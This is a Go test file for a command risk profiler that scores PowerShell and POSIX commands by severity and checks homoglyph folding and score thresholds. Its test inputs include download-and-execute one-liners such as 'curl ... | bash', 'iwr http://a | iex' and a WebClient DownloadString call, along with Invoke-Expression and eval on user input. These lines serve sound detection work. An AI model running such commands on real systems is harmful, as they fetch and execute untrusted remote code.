package risk

import (
	"math"
	"reflect"
	"testing"

	"github.com/go-logr/logr"

	"github.com/gzhole/transguard/internal/model"
	"github.com/gzhole/transguard/internal/policy"
)

func newTestProfiler(t *testing.T) *Profiler {
	t.Helper()
	return NewProfiler(policy.MustCompile(policy.DefaultPolicy()), logr.Discard())
}

func TestProfile_Tiers(t *testing.T) {
	p := newTestProfiler(t)

	tests := []struct {
		name    string
		text    string
		dialect model.Dialect
		want    model.Severity
		sigs    []string
	}{
		{"invoke-expression", "Invoke-Expression $userInput", model.DialectPowerShell, model.SeverityCritical, []string{"ps-invoke-expression"}},
		{"iex alias", "$x | iex", model.DialectPowerShell, model.SeverityCritical, []string{"ps-iex"}},
		{"benign cmdlet", "Get-Process", model.DialectPowerShell, model.SeverityLow, []string{"ps-get-process"}},
		{"empty", "", model.DialectPowerShell, model.SeverityLow, nil},
		{"download string", "(New-Object Net.WebClient).DownloadString('http://x')", model.DialectPowerShell, model.SeverityHigh,
			[]string{"ps-webclient", "ps-download-string"}},
		{"hidden window", "powershell -WindowStyle Hidden -File a.ps1", model.DialectPowerShell, model.SeverityMedium, []string{"ps-window-hidden"}},
		{"posix eval", "eval $CMD", model.DialectPOSIX, model.SeverityCritical, []string{"sh-eval"}},
		{"posix curl pipe", "curl -s https://x.sh | bash", model.DialectPOSIX, model.SeverityCritical, []string{"sh-curl-pipe-shell", "sh-download"}},
		{"posix signature ignored for powershell", "eval $CMD", model.DialectPowerShell, model.SeverityLow, nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			prof := p.Profile(model.Command{ID: "c", Text: tt.text, Dialect: tt.dialect})
			if prof.Tier != tt.want {
				t.Errorf("Tier = %s, want %s (score %g)", prof.Tier, tt.want, prof.Score)
			}
			var got []string
			for _, m := range prof.Matches {
				got = append(got, m.SignatureID)
			}
			if !sameSet(got, tt.sigs) {
				t.Errorf("matched %v, want %v", got, tt.sigs)
			}
		})
	}
}

func TestProfile_BenignHasNoFindings(t *testing.T) {
	prof := newTestProfiler(t).Profile(model.Command{ID: "b", Text: "Get-Process", Dialect: model.DialectPowerShell})
	if len(prof.Findings()) != 0 {
		t.Errorf("INFO matches must not become findings: %v", prof.Findings())
	}
	if prof.Critical() {
		t.Error("Get-Process must not be critical")
	}
	if prof.TableDigest == "" || prof.TableVersion != "1.0.0" {
		t.Errorf("table identity missing: %q %q", prof.TableVersion, prof.TableDigest)
	}
}

func TestProfile_Deterministic(t *testing.T) {
	p := newTestProfiler(t)
	cmd := model.Command{ID: "d", Text: "Start-Process pwsh -Verb RunAs; iwr http://a | iex", Dialect: model.DialectPowerShell}
	first := p.Profile(cmd)
	for i := 0; i < 20; i++ {
		if got := p.Profile(cmd); !reflect.DeepEqual(got, first) {
			t.Fatalf("run %d differs:\n%+v\n%+v", i, got, first)
		}
	}
}

func TestProfile_HomoglyphFolding(t *testing.T) {
	// Cyrillic 'е' (U+0435) in place of the Latin 'e'.
	prof := newTestProfiler(t).Profile(model.Command{ID: "h", Text: "Invokе-Expression $x", Dialect: model.DialectPowerShell})
	if prof.Tier != model.SeverityCritical {
		t.Fatalf("Tier = %s, want CRITICAL", prof.Tier)
	}
	if len(prof.Matches) != 1 || !prof.Matches[0].Folded {
		t.Errorf("expected one folded match, got %+v", prof.Matches)
	}
}

func TestScore_DiminishingReturns(t *testing.T) {
	tables := policy.MustCompile(policy.DefaultPolicy())
	low := func(n int) []Match {
		var ms []Match
		for i := 0; i < n; i++ {
			ms = append(ms, Match{Severity: model.SeverityLow, Weight: 0.25})
		}
		return ms
	}

	prev := 0.0
	for n := 1; n <= 50; n++ {
		s := Score(low(n), tables)
		if s < prev {
			t.Fatalf("score decreased at n=%d: %g < %g", n, s, prev)
		}
		prev = s
	}
	// 0.25 / (1 - 0.5) is the bound for any number of LOW hits.
	if prev >= 0.5 {
		t.Errorf("repeated LOW hits reached %g, want < 0.5", prev)
	}
	if TierFor(prev, low(50), tables.Thresholds()) != model.SeverityLow {
		t.Error("repeated LOW hits must stay LOW")
	}
}

func TestScore_GroupsBySeverity(t *testing.T) {
	tables := policy.MustCompile(policy.DefaultPolicy())
	ms := []Match{
		{Severity: model.SeverityHigh, Weight: 2},
		{Severity: model.SeverityMedium, Weight: 1},
		{Severity: model.SeverityHigh, Weight: 2},
	}
	// high: 2 + 1, medium: 1
	if got := Score(ms, tables); math.Abs(got-4) > 1e-9 {
		t.Errorf("Score = %g, want 4", got)
	}
	if tier := TierFor(4, ms, tables.Thresholds()); tier != model.SeverityCritical {
		t.Errorf("TierFor(4) = %s", tier)
	}
}

func TestTierFor_Boundaries(t *testing.T) {
	th := policy.Thresholds{Medium: 1, High: 2, Critical: 3.5}
	tests := []struct {
		score float64
		want  model.Severity
	}{
		{0, model.SeverityLow},
		{0.99, model.SeverityLow},
		{1, model.SeverityMedium},
		{1.99, model.SeverityMedium},
		{2, model.SeverityHigh},
		{3.49, model.SeverityHigh},
		{3.5, model.SeverityCritical},
	}
	for _, tt := range tests {
		if got := TierFor(tt.score, nil, th); got != tt.want {
			t.Errorf("TierFor(%g) = %s, want %s", tt.score, got, tt.want)
		}
	}
}

func TestCountVulnerable(t *testing.T) {
	ms := []Match{{Severity: model.SeverityInfo}, {Severity: model.SeverityLow}, {Severity: model.SeverityCritical}}
	if got := CountVulnerable(ms); got != 2 {
		t.Errorf("CountVulnerable = %d, want 2", got)
	}
}

func sameSet(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	count := make(map[string]int)
	for _, s := range a {
		count[s]++
	}
	for _, s := range b {
		count[s]--
	}
	for _, n := range count {
		if n != 0 {
			return false
		}
	}
	return true
}
